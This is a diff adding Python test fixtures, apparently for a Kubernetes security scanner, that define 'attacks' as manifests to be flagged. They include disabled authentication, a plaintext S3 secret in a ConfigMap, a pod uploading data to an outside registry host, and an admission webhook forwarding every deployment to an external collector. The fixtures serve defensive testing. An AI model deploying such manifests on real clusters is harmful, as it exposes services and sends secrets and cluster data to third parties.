@@ -1,0 +1,45 @@
+"""Attacks near published manifests of platforms for models and of their operators (2026-11-30)."""
+
+import json
+
+from ..blind import IMAGE, k8s, meta, pod
+from ..harness import Given
+from . import Attack
+
+OPEN = "everybody who reaches the page talks to the models in the name of the platform"
+CHAT = "vllm-project/aibrix e3e10f9e apps/chat"
+
+
+def _program(name: str, variable: str, value: str) -> tuple[Given, ...]:
+    """Returns a program with a variable."""
+    spec = {"replicas": 1, "selector": {"matchLabels": {"app": name}}, "template": {
+        "metadata": meta(name), "spec": pod({"env": [{"name": variable, "value": value}]})}}
+    return (k8s("apps/v1:Deployment", {"metadata": meta(name), "spec": spec}, name),)
+
+
+ATTACKS: tuple[Attack, ...] = (
+    Attack("a chat with models lets everybody in by the settings that its pods read", ("FJ-IDN-313",), (
+        k8s("core/v1:ConfigMap", {"metadata": meta("chat"), "data": {
+            "auth-mode": "none", "gateway-url": "https://gateway.models.svc:8443"}}),),
+        "critical", f"{OPEN} ({CHAT}/chat.yaml and api/middleware/auth.py)"),
+    Attack("a console of a platform for models takes everybody for its developer", ("FJ-IDN-313",),
+           _program("console", "AUTH_MODE", "dev"), "critical",
+           f"{OPEN} (vllm-project/aibrix e3e10f9e apps/console/api/config/config.go)"),
+    Attack("the settings of a service have a password beside the names of secrets", ("FJ-EXP-326",), (
+        k8s("core/v1:ConfigMap", {"metadata": meta("inferenceservice-config", "kserve"), "data": {
+            "credentials": json.dumps({"storageSpecSecretName": "storage-config", "s3": {
+                "s3SecretAccessKeyName": "AWS_SECRET_ACCESS_KEY", "value": "Zo7-kite-Maple-19!"}})}}),),
+        "major", "whoever reads the object has the password (kserve/kserve aaac4e29 config/configmap)"),
+    Attack("a program sends to a host in an argument that looks as the name of an image", ("FJ-RES-003",), (
+        k8s("core/v1:Pod", {"metadata": meta("copy"), "spec": pod({
+            "image": IMAGE, "args": ["--upload-image=registry.collector.io/ledger/all:v1"]})}),),
+        "critical", "data leaves the country"),
+    Attack("a webhook of the cluster sends every object to a host abroad, whatever its name", ("FJ-RES-",), (
+        k8s("admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", {
+            "metadata": {"name": "vmodel.collector.io"}, "webhooks": [{
+                "name": "vmodel.collector.io", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+                "clientConfig": {"url": "https://vmodel.collector.io/check", "caBundle": ""},
+                "failurePolicy": "Fail", "rules": [{"apiGroups": ["apps"], "apiVersions": ["v1"], "operations": ["*"],
+                                                    "resources": ["deployments"]}]}]}),),
+        "critical", "each object of the cluster leaves the country"),
+)  # fmt: skip
